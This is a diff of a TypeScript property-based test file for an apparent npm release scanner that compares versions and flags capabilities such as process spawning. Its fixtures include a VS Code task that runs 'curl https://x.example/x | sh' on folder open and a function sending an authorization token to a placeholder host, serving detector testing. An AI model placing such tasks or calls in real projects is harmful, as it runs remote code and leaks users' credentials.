@@ -25,10 +25,31 @@ describe('the release before', () => {
     expect(inPart.contents.capabilities).toEqual([]);
   });
 
+  it('is read first where the release does it, and on the way there', async () => {
+    const files = { 'index.js': 'require("./a"); require("./b");', 'a.js': plain, 'b.js': 'require("./c");', 'c.js': starts, 'cli.js': talks };
+    const before = Object.fromEntries(Object.entries(files).map(([path, code]) => [path, `${code}\n// as it was`]));
+    const { parsed, inPart, isWhole } = await of(before, files, { bin: 'cli.js' });
+    expect({ parsed, isWhole }).toEqual({ parsed: ['index.js', 'b.js', 'c.js', 'cli.js'], isWhole: false });
+    expect(inPart.contents.capabilities).toEqual([]);
+  });
+
+  it('is read elsewhere as well where it is not found there', async () => {
+    const loads = { 'index.js': 'require("./a"); require("./b");' };
+    const { inPart } = await of({ ...loads, 'a.js': starts, 'b.js': plain }, { ...loads, 'a.js': plain, 'b.js': starts });
+    expect(inPart.contents.capabilities).toEqual([]);
+  });
+
+  it('does not run by import for what only says that it loads it', async () => {
+    const files = { 'a.js': starts };
+    const { inPart, whole } = await of({ ...files, 'index.js': '// require("./a")' }, { ...files, 'index.js': 'require("./a");' });
+    expect(inPart).toEqual(whole);
+    expect(inPart.contents.capabilities.map(({ kind }) => kind)).toContain('process');
+  });
+
   it('is read as a whole where something stays new', async () => {
     const files = { 'index.js': 'require("./a"); require("./b");', 'a.js': talks, 'b.js': plain };
     const { parsed, isWhole, inPart } = await of(files, { ...files, 'b.js': starts });
-    expect({ parsed, isWhole }).toEqual({ parsed: ['index.js', 'a.js', 'b.js'], isWhole: true });
+    expect({ parsed: new Set(parsed), isWhole }).toEqual({ parsed: new Set(['index.js', 'a.js', 'b.js']), isWhole: true });
     expect(new Set(inPart.contents.capabilities.map(({ kind }) => kind))).toEqual(new Set(['process']));
   });
 
@@ -52,21 +73,38 @@ describe('the release before', () => {
       `var blob = "${'QUJDRA'.repeat(400)}";`,
       'exports.go = (token) => fetch("https://three.example/", { headers: { authorization: token } });',
     ];
-    const names = ['a.js', 'b.js', 'cjs/c.js', 'esm/d.mjs', 'bin/e.js', 'install.js'];
+    const tasks = '{"tasks":[{"label":"x","type":"shell","command":"curl https://x.example/x | sh","runOptions":{"runOn":"folderOpen"}}]}';
+    const names = ['a.js', 'b.js', 'cjs/c.js', 'esm/d.mjs', 'bin/e.js', 'dist/f.js', 'install.js'];
+    const some = fc.subarray([...names, '.vscode/tasks.json'], { maxLength: 3 });
     const release = fc.record({
-      files: fc.dictionary(fc.constantFrom(...names), fc.constantFrom(...pieces)),
-      loads: fc.subarray(names),
+      files: fc.dictionary(fc.constantFrom(...names), fc.record({ code: fc.constantFrom(...pieces), loads: some })),
+      loads: some,
       main: fc.constantFrom('index.js', 'a.js', 'cjs/c.js'),
-      bin: fc.constantFrom('bin/e.js', 'b.js'),
+      bin: fc.constantFrom('bin/e.js', 'b.js', undefined),
+      exports: fc.constantFrom('./index.js', undefined),
       installs: fc.boolean(),
     });
-    const packed = ({ files, loads, main, bin, installs }: typeof release extends fc.Arbitrary<infer T> ? T : never, version: string) =>
-      aPackage(
-        { name: 'it', version, main, module: 'esm/d.mjs', bin: { it: bin }, ...(installs && { scripts: { postinstall: 'node install.js' } }) },
-        { 'index.js': loads.map((path) => `require("./${path}");`).join('\n'), ...files },
+    const packed = (
+      { files, loads, main, bin, exports, installs }: typeof release extends fc.Arbitrary<infer T> ? T : never,
+      version: string,
+    ): Buffer => {
+      const calls = (paths: readonly string[]): string => paths.map((path) => `require("it/${path}");`).join('\n');
+      return aPackage(
+        {
+          ...{ name: 'it', version, main, module: 'esm/d.mjs', exports },
+          ...(bin !== undefined && { bin: { it: bin } }),
+          ...(installs && { scripts: { postinstall: 'node install.js' } }),
+        },
+        {
+          'index.js': calls(loads),
+          '.vscode/tasks.json': tasks,
+          ...Object.fromEntries(Object.entries(files).map(([path, { code, loads }]) => [path, `${code}\n${calls(loads)}`])),
+        },
       );
+    };
     await fc.assert(
-      fc.asyncProperty(release, release, async (before, after) => {
+      fc.asyncProperty(release, release, fc.boolean(), async (before, other, isAlike) => {
+        const after = isAlike ? { ...other, files: { ...before.files, ...Object.fromEntries(Object.entries(other.files).slice(0, 1)) } } : other;
         const { inPart, whole } = await bothWays(packed(before, '1.0.0'), packed(after, '1.0.1'));
         expect(inPart).toEqual(whole);
       }),
